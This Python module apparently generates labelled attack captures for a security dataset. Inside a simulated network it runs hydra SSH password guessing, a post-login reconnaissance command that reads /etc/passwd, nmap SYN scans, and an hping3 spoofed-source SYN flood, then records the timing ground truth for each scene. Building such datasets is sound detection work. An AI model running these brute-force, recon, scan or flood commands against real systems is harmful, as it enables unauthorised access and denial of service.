"""The scenes of attack: guessing at ssh, scans, and a flood."""

import math
import random
import time
from ipaddress import IPv4Network
from pathlib import Path

from .capture import Capture, compress, move_strangers, packet_times, to_pcapng
from .clients import Person, Reader, start_resolver
from .hosts import Host
from .site import ATTACKER, FILES, RESOLVER, WEB01, Site
from .syslog import SceneClock
from .truth import Attack, Truth
from .web01 import Web01, start_nginx, start_web01, wait_for_port

GUESSES = 40  # in the attacker's list; the right one stands at RIGHT_AT
RIGHT_AT = 29
SYLLABLES = [
    "ba",
    "ce",
    "di",
    "fo",
    "gu",
    "ka",
    "le",
    "mi",
    "no",
    "pu",
    "ra",
    "se",
    "ti",
    "vo",
    "zu",
]
GUESSING_SNAP_BYTES = 256
SCAN_SNAP_BYTES = 256
SWEPT = IPv4Network("198.51.100.0/25")
FLOOD_PACKETS = 20_000
FLOOD_INTERVAL_US = 250
FLOOD_SNAP_BYTES = 96
SITE_NETWORKS = tuple(
    IPv4Network(net) for net in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "0.0.0.0/32")
)


def _readers(site: Site, count: int, *, pause_s: float) -> list[Reader]:
    start_resolver(site.add("ns1", "site", RESOLVER))
    readers = []
    for number in range(count):
        host = site.add(f"desk{number}", "office", f"192.0.2.{20 + number}")
        readers.append(Reader(host, number, pause_s))
    return readers


def record_ssh_guessing(folder: Path) -> list[Truth]:
    """Guess with hydra until a password is right, log in with it, amid ordinary use."""
    clock = SceneClock()
    with Site() as site:
        web01 = start_web01(site, clock)
        readers = _readers(site, 3, pause_s=4)
        people = [Person(reader.host) for reader in readers]
        for person, user in zip(people, ("alice", "bob", "deploy"), strict=True):
            web01.trust(user, person.make_key())
        attacker = site.add("stranger", "outside", ATTACKER)
        with Capture(web01.host, "eth0", folder / "capture.pcap", GUESSING_SNAP_BYTES):
            for reader in readers:
                reader.start()
            people[0].login_by_key("alice", "uptime; sleep 20; df -h")
            people[1].login_by_password("bob", ["Mistyped", web01.passwords["bob"]], "sleep 6")
            time.sleep(15)
            _guess(site, web01, attacker)
            people[2].login_by_key("deploy", "sudo", "-n", "/usr/sbin/nginx", "-v")
            time.sleep(20)
            people[0].login_by_key("alice", "uptime; sleep 5")
            for reader in readers:
                reader.stop()
        web01.receiver.close()
        records = web01.receiver.write(folder / "auth.log", is_auth=True)
    own = f"ip.addr == {ATTACKER}"
    access = {"kinds": ["account_compromise"], "attackers": [ATTACKER], "victims": [WEB01]}
    kinds, also = ("brute_force_ssh",), (access,)
    log_times = [math.floor(r.at_s) for r in records if ATTACKER in r.line]
    found = next(
        math.floor(r.at_s)
        for r in records
        if f"Accepted password for deploy from {ATTACKER}" in r.line
    )
    capture_times = packet_times(folder / "capture.pcap", own)
    return [
        Truth(
            "ssh-guessing/auth.log",
            "attack",
            [math.floor(r.at_s) for r in records],
            f"The right password of deploy is found at {found}; sessions with it follow.",
            Attack(kinds, (ATTACKER,), (WEB01, "web01"), log_times, also),
        ),
        Truth(
            "ssh-guessing/capture.pcap",
            "attack",
            packet_times(folder / "capture.pcap"),
            "The same minutes as auth.log, at web01's own link.",
            Attack(kinds, (ATTACKER,), (WEB01,), capture_times, also),
        ),
    ]


def _guess(site: Site, web01: Web01, attacker: Host) -> None:
    rng = random.Random(11)
    words = ["".join(rng.choices(SYLLABLES, k=4)) for _ in range(GUESSES)]
    words[RIGHT_AT] = web01.passwords["deploy"]
    (site.scratch / "words").write_text("\n".join(words) + "\n", encoding="ascii")
    (site.scratch / "users").write_text("root\ndeploy\n", encoding="ascii")
    attacker.run(
        *("timeout", "280", "hydra", "-t", "4", "-I", "-f", "-L", str(site.scratch / "users")),
        *("-P", str(site.scratch / "words"), f"ssh://{WEB01}"),
        is_checked=False,
    )
    time.sleep(4)
    visitor = Person(attacker)
    command = "id; uname -r; cat /etc/passwd; ls -la /home; sleep 8; sudo -n -l"
    visitor.login_by_password("deploy", [words[RIGHT_AT]], command)


def record_scan(folder: Path) -> list[Truth]:
    """Scan the ports of one host, then one port of half a network, both with nmap."""
    truths = []
    with Site() as site:
        web01 = start_web01(site, SceneClock())
        readers = _readers(site, 2, pause_s=3)
        start_nginx(site, site.add("files", "site", FILES))
        attacker = site.add("stranger", "outside", ATTACKER)
        for reader in readers:
            reader.start()
        recorded = site.scratch / "vertical.pcap"
        with Capture(web01.host, "eth0", recorded, SCAN_SNAP_BYTES):
            time.sleep(12)
            attacker.run("nmap", "-n", "-sS", "-T4", "--max-rate", "250", WEB01)
            time.sleep(10)
        to_pcapng(recorded, folder / "vertical.pcapng")
        kinds: tuple[str, ...] = ("port_scan_vertical", "tcp_syn_scan")
        note = (
            "nmap -sS -T4 --max-rate 250 of web01's 1,000 most usual ports, seen at web01's link."
        )
        truths.append(_scan_truth(folder, "vertical", kinds, (WEB01,), note))
        recorded = site.scratch / "horizontal.pcap"
        with Capture(site.router, "outside", recorded):
            time.sleep(3)
            attacker.run(
                "nmap", "-n", "-Pn", "-sS", "-T4", "--max-rate", "50", "-p", "445", str(SWEPT)
            )
            time.sleep(3)
        to_pcapng(recorded, folder / "horizontal.pcapng")
        kinds = ("port_scan_horizontal", "tcp_syn_scan")
        note = f"nmap -Pn -sS -T4 --max-rate 50 -p 445 of {SWEPT}, seen at the router's outer link."
        truths.append(_scan_truth(folder, "horizontal", kinds, (str(SWEPT),), note))
        for reader in readers:
            reader.stop()
        web01.receiver.close()
    return truths


def _scan_truth(
    folder: Path, name: str, kinds: tuple[str, ...], victims: tuple[str, ...], note: str
) -> Truth:
    path = folder / f"{name}.pcapng"
    attack = Attack(kinds, (ATTACKER,), victims, packet_times(path, f"ip.src == {ATTACKER}"))
    return Truth(f"scan/{name}.pcapng", "attack", packet_times(path), note, attack)


def record_syn_flood(folder: Path) -> list[Truth]:
    """Flood a web server with SYN packets of invented sources while people read its pages."""
    with Site() as site:
        web01 = start_web01(site, SceneClock())
        readers = _readers(site, 4, pause_s=1.5)
        attacker = site.add("stranger", "outside", ATTACKER)
        wait_for_port(web01.host, 80)
        recorded = site.scratch / "recorded.pcap"
        with Capture(web01.host, "eth0", recorded, FLOOD_SNAP_BYTES):
            for reader in readers:
                reader.start()
            time.sleep(30)
            attacker.run(
                *("timeout", "60", "hping3", "-q", "-n", "-S", "--rand-source", "-p", "80"),
                *("-i", f"u{FLOOD_INTERVAL_US}", "-c", str(FLOOD_PACKETS), WEB01),
                is_checked=False,
            )
            time.sleep(30)
            for reader in readers:
                reader.stop()
        web01.receiver.close()
        moved = site.scratch / "moved.pcap"
        strangers = move_strangers(recorded, moved, SITE_NETWORKS)
        compress(moved, folder / "capture.pcap.gz")
    path = folder / "capture.pcap.gz"
    times = packet_times(path, f"ip.src == 198.18.0.0/15 && ip.dst == {WEB01}")
    note = (
        f"hping3 -S --rand-source: {len(times)} packets of {strangers} invented sources, which"
        " were moved to 198.18.0.0/15 (RFC 2544) after recording, one for one, checksums carried"
        f" forward; at most {FLOOD_SNAP_BYTES} bytes a packet are kept. web01's replies go on for"
        " a while after the last flood packet."
    )
    attack = Attack(("syn_flood", "ddos_spoofed"), ("*spoofed",), (WEB01,), times)
    return [Truth("syn-flood/capture.pcap.gz", "attack", packet_times(path), note, attack)]
